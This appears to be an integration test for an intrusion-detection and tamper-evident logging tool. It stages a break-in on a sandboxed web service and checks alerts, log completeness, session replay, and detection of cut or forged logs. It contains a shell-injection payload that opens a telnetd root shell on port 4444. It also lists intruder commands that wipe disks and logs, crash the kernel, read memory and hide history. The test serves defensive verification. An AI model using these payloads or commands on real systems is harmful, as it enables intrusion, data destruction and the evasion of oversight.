/**
 * Attackers: an intruder on the switch, who may talk to one service; then the same one as that guest's root; then the
 * landlord, who has every file of the guest.
 * Asset: what the tenant learns of the intruder, and when; that nobody else learns it.
 * Expected: the alert comes while the intruder is at work; all that was typed and shown is in the log, whatever root
 * does to the guest; the session is replayed from the sealed log alone; without the tenant's key the log does not open,
 * and a cut or forged one is told from it.
 */
import { spawn } from 'node:child_process'
import { readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect } from 'chai'
import { execa } from 'execa'
import { compileRuleset, readRuleFile } from '../../../soda-host/kernort/rules/index.ts'
import { FrameScanner } from '../../../soda-host/logs/frame-scanner.ts'
import type { Frame } from '../../../soda-host/logs/frame-layout.ts'
import { logOpener, parseAnchor, readLog, verifyLog, type LogRecord } from '../../../soda-host/logs/index.ts'
import { namespacePath } from '../../../soda-host/switch/commands.ts'
import { createLogKey, loadOrCreateLogKey } from '../../../src/identity/index.ts'
import { requires } from '../../helpers/capabilities.ts'
import { shell } from '../../helpers/guests.ts'
import { inputDirectory, inputFile } from '../../helpers/launched.ts'
import { RemoteShell } from '../../helpers/remote-shell.ts'
import { buildHarness, bytesOf, SealScript } from '../../helpers/sealer.ts'
import { testSwitch, type BareGuest } from '../../helpers/switch/bare-guests.ts'
import { temporaryDirectory } from '../../helpers/temporary.ts'
import { watchedGuest } from '../../helpers/watched-guest.ts'

const ROOT = join(import.meta.dirname, '../../..')
const SERVICE = join(ROOT, 'examples/break-in')
const RULES = [join(SERVICE, 'service.rules'), join(ROOT, 'soda-host/kernort/watch/intruder.rules')]
const MAIN = join(ROOT, 'src/cli/main.ts')
const TALK = join(ROOT, 'test/fixtures/switch/talk.ts')
const MIB = 1024 * 1024
const SLOT = 100
const NETWORK_FD = 20
const SERVICE_PORT = 8080
const SHELL_PORT = 4444
const SERVER = 'a service that is broken into'
/** What the service takes for a word to search for; it answers when the port is open. */
const INJECTION = '.+/dev/null;telnetd+-p+4444+-l+/bin/sh;until+netstat+-ltn|grep+-q+:4444;do+:;done+%23'
/** IAC SB NAWS 0 100 0 30 IAC SE: the size of the intruder's terminal (RFC 1073). */
const TERMINAL_SIZE = '\xff\xfa\x1f\0\x64\0\x1e\xff\xf0'
const SECRET = 'this goes to the intruder'

/** What the intruder tries as root, and what must not come of it. */
const ATTEMPTS = [
  'id',
  `echo ${SECRET} > /root/loot`,
  // To kill it.
  'for p in /proc/[0-9]*; do grep -q . $p/cmdline || kill -9 ${p#/proc/}; done 2> /dev/null',
  'insmod /dev/null; rmmod kernort; echo c > /proc/sysrq-trigger',
  'echo 0 > /proc/sys/kernel/printk; sysctl -w kernel.threads-max=40 > /dev/null',
  // To edit it.
  'dd if=/dev/mem of=/tmp/m count=1; dd if=/dev/kmem count=1; cat /proc/kcore',
  'dd if=/dev/zero of=/dev/ubda count=1; dd if=/dev/zero of=/dev/ubdb count=1; ls /dev',
  'rm -rf /var/log; dmesg -c > /dev/null',
  // To hide.
  'mount -t tmpfs none /proc; umount /proc; unset HISTFILE; rm -f /root/.ash_history',
  'date -s 2001-01-01 > /dev/null; mount -t tmpfs none /sys',
  'rm -f /root/loot /work/cgi-bin/search; killall -9 httpd'
]

/** Beside the requests. */
const TOLD = [
  'Kernort: a program that gives shells to the network',
  'the id of root, as the program id prints it',
  'Kernort: a log is wiped',
  'Kernort: the history of commands is switched off'
]

describe('a break-in into a service', function () {
  this.timeout(120_000)

  const resources = new AsyncDisposableStack()
  let state: string
  let files: { kernel: string; log: string }
  let records: LogRecord[]
  let findings: unknown[]
  let alerts: LogRecord[]
  /** What the intruder typed, and what came back. */
  let session: { typed: string; shown: string }
  /** What the tenant's terminal said, before anything else was typed. */
  let toldAtOnce: string

  const tool = (...args: string[]) =>
    execa('node', ['--disable-warning=ExperimentalWarning', MAIN, ...args, '--state-dir', state], {
      reject: false
    })

  before(async function () {
    requires(this, 'root', 'uml', 'nftables', 'libcrypto')
    state = resources.use(await temporaryDirectory()).path
    const { table, coverage } = compileRuleset(await Promise.all(RULES.map((path) => readRuleFile(path))))
    expect(coverage.compiled).to.equal(coverage.read)
    const network = resources.use(await testSwitch())
    const intruder = await network.guest()
    const port = await network.network.addPort({ id: 'service', slot: SLOT })
    resources.defer(() => network.network.removePort(SLOT))
    for (const open of [SERVICE_PORT, SHELL_PORT])
      await network.network.addLink({ from: intruder.id, to: 'service', protocol: 'tcp', port: open })
    const watched = resources.use(
      await watchedGuest({
        key: await loadOrCreateLogKey(state),
        serverId: bytesOf(SERVER, 16),
        rules: table,
        memoryBytes: 96 * MIB,
        opener: port.openSocket(NETWORK_FD),
        parameters: [
          `vec0:transport=fd,fd=${NETWORK_FD},mac=${port.mac},mtu=1500`,
          `ishare.ipv4=${port.ipv4}/${port.prefixLength}`
        ]
      })
    )
    files = watched.files
    const { channel, listener, ended } = watched.guest
    await channel.putFile(inputDirectory('cgi-bin'))
    for (const name of ['cgi-bin/search', 'stations.txt'])
      await channel.putFile(inputFile(name, await readFile(join(SERVICE, name)), 0o755))
    await channel.run(
      shell(
        `mkdir -p /var/log; echo began > /var/log/service; httpd -p ${SERVICE_PORT} -h /work && echo serving; cat`
      )
    )
    await listener.until(() => listener.text('stdout').includes('serving'))

    const url = `http://${port.ipv4}:${SERVICE_PORT}/cgi-bin/search?`
    expect(await fetched(intruder, `${url}pasadena`)).to.equal('CI.PASC Pasadena\n')
    const watching = tool('alerts', '--follow', files.log)
    const told = watching[Symbol.asyncIterator]()
    await fetched(intruder, url + INJECTION)
    toldAtOnce = `${(await told.next()).value ?? ''}\n${(await told.next()).value ?? ''}`
    session = await breakIn(intruder, port.ipv4)
    watching.kill('SIGINT')
    await watching
    await channel.powerOff()
    await ended
    ;({ records, findings } = await watched.read())
    alerts = records.filter(({ kind }) => kind === 'alert')
  })

  after(() => resources.disposeAsync())

  async function breakIn(intruder: BareGuest, address: string): Promise<typeof session> {
    const talk = [process.execPath, TALK, address, String(SHELL_PORT)]
    const enter = [`--net=${namespacePath(intruder.namespace)}`, '--', ...talk]
    const remote = resources.use(new RemoteShell(spawn('nsenter', enter, { stdio: 'pipe' })))
    await remote.until('# ')
    remote.send(TERMINAL_SIZE)
    let shown = ''
    for (const attempt of ATTEMPTS) shown += await remote.does(attempt)
    return { shown, typed: remote.typed.replace(TERMINAL_SIZE, '') }
  }

  it('is told at the tenant’s terminal while it happens, with who it was', () => {
    expect(toldAtOnce).to.match(/alert .*special characters of a shell in a search/)
    expect(toldAtOnce).to.match(/alert .*a program that opens a port, in a request/)
    const [first] = alerts
    expect(first?.fields['sid']).to.equal(9_000_001)
    expect(first?.tails['evidence']?.toString()).to.match(/ 10\.83\.1\.1:\d+ > 10\.83\.1\.101:8080$/)
  })

  it('is told in its course: the port, the shell, who it is, and the traces that it wipes', () => {
    const told = alerts.map(({ tails }) => String(tails['message']))
    for (const message of TOLD) expect(told).to.include(message)
  })

  it('is surrounded in the log by what ran when it was told', () => {
    const causes = new Set(alerts.map(({ fields }) => fields['sid']))
    const processes = records.filter(
      ({ kind, fields }) => kind === 'snapshot' && fields['topic'] === 1 && causes.has(fields['cause'])
    )
    expect(processes.map(({ tails }) => String(tails['text'])).join(''))
      .to.match(/ httpd$/m)
      .and.match(/ telnetd$/m)
  })

  it('gave the intruder a shell of root’s', () => {
    expect(session.shown).to.include('uid=0(root) gid=0(root)')
  })

  it('is in the log whole: the program that opens a port, the port, the shell', () => {
    expect(findings).to.deep.equal([])
    const execs = records.filter(({ kind }) => kind === 'exec')
    const words = execs.map(({ tails }) => tails['arguments']?.toString().split('\0').slice(0, -1).join(' '))
    expect(words).to.include('telnetd -p 4444 -l /bin/sh').and.include('/bin/sh')
    const listening = records.filter(
      ({ kind, comm, fields }) => kind === 'socket' && comm === 'telnetd' && fields['operation'] === 3
    )
    expect(listening.map(({ fields }) => fields['port'])).to.deep.equal([SHELL_PORT])
  })

  it('is logged to its end, without a gap, whatever root has tried', () => {
    expect(records.every(({ number }, index) => number === BigInt(index))).to.equal(true)
    expect(records.filter(({ kind }) => kind === 'shed')).to.deep.equal([])
    expect(records.at(-1)?.kind).to.equal('shutdown')
    const typed = records.flatMap(({ kind, fields, tails }) =>
      kind === 'tty' && fields['direction'] === 1 ? [tails['data'] ?? Buffer.alloc(0)] : []
    )
    expect(Buffer.concat(typed).toString()).to.equal(session.typed)
  })

  it('is replayed by the tenant from the sealed log alone, as the intruder saw it', async () => {
    const listed = await tool('sessions', files.log, '--json')
    const [one] = listed.stdout.split('\n').map((line) => JSON.parse(line) as Record<string, unknown>)
    expect(one).to.include({ columns: 100, rows: 30, inputBytes: session.typed.length })
    const replayed = await tool('replay', files.log, '--speed', '1000')
    for (const attempt of ATTEMPTS) expect(replayed.stdout).to.include(attempt.slice(0, 60))
    expect(replayed.stdout).to.include('uid=0(root) gid=0(root)').and.to.include('end-1011')
    expect((await tool('verify', files.log)).stdout).to.match(/^whole: /)
  })

  describe('for the landlord, who has every file', () => {
    let log: Buffer
    let frames: Frame[]
    const init = async () => ({ opener: await logOpener(await loadOrCreateLogKey(state)) })

    before(async () => {
      log = await readFile(files.log)
      frames = [...new FrameScanner().push(log)].flatMap((one) => ('frame' in one ? [one.frame] : []))
    })

    it('holds nothing that can be read: not in the log, and no key in the kernel', async () => {
      const { privateKey } = await loadOrCreateLogKey(state)
      const kernel = await readFile(files.kernel)
      expect(kernel.includes(Buffer.from(privateKey))).to.equal(false)
      for (const word of [SECRET, 'telnetd', 'special characters', 'uid=0(root)', '/bin/sh'])
        expect(log.includes(word), word).to.equal(false)
      await using elsewhere = await temporaryDirectory()
      await loadOrCreateLogKey(elsewhere.path)
      const opened = await tool('open', files.log, '--key', join(elsewhere.path, 'log-key.jwk'))
      expect([opened.exitCode, opened.stdout]).to.deep.equal([1, ''])
      expect(opened.stderr).to.include('not-for-key')
      expect((await verifyLog([log], { opener: await logOpener(createLogKey()) })).records).to.equal(0)
    })

    it('cannot be cut before the break-in: the tenant knows a later head', async () => {
      const whole = (await tool('verify', files.log)).stdout
      const head = /^head (\S+)$/m.exec(whole)?.[1] ?? ''
      expect(parseAnchor(head)).not.to.equal(undefined)
      await using elsewhere = await temporaryDirectory()
      for (const kept of [1, frames.length - 1]) {
        const cut = join(elsewhere.path, `cut-${kept}`)
        await writeFile(cut, Buffer.concat(frames.slice(0, kept).map(({ bytes }) => bytes)))
        const report = await tool('verify', cut, '--anchor', head)
        expect(report.exitCode).to.equal(1)
        expect(report.stdout).to.match(/anchor at byte \d+: .*NOT whole/s)
      }
    })

    it('cannot be forged: an epoch of the landlord’s, sealed to the tenant’s key, is told and not given out', async () => {
      const { publicKey } = await loadOrCreateLogKey(state)
      const harness = buildHarness()
      try {
        const first = frames[0] ?? expect.fail('no frame')
        const script = new SealScript('forged', [{ publicKey }]).boot(0, SERVER).forgeBehind(first, 1).epoch()
        script
          .record({ kind: 'klog', tails: ['all was quiet'] })
          .record({ kind: 'shutdown' })
          .frame('end')
        const forged = Buffer.concat([first.bytes, script.seal(harness)])
        const report = await verifyLog([forged], await init())
        expect(report.isWhole).to.equal(false)
        const texts: (string | undefined)[] = []
        for await (const entry of readLog([forged], await init()))
          if (entry.type === 'record') texts.push(entry.record.tails['text']?.toString())
        expect(texts).not.to.include('all was quiet')
      } finally {
        harness.remove()
      }
    })

    it('cannot be changed: one bit of any frame is told', async () => {
      const places = frames.map(({ bytes }) => log.indexOf(bytes) + bytes.length - 20)
      for (const place of places.slice(0, 50)) {
        const changed = Buffer.from(log)
        changed[place] = (changed[place] ?? 0) ^ 1
        expect((await verifyLog([changed], await init())).isWhole, `byte ${place}`).to.equal(false)
      }
    })
  })
})

/** What a web server says to somebody on the switch. */
async function fetched({ namespace }: BareGuest, url: string): Promise<string> {
  const program = `process.stdout.write(await (await fetch(${JSON.stringify(url)})).text())`
  const node = [process.execPath, '--input-type=module', '--eval', program]
  return (
    await execa('nsenter', [`--net=${namespacePath(namespace)}`, '--', ...node], { stripFinalNewline: false })
  ).stdout
}
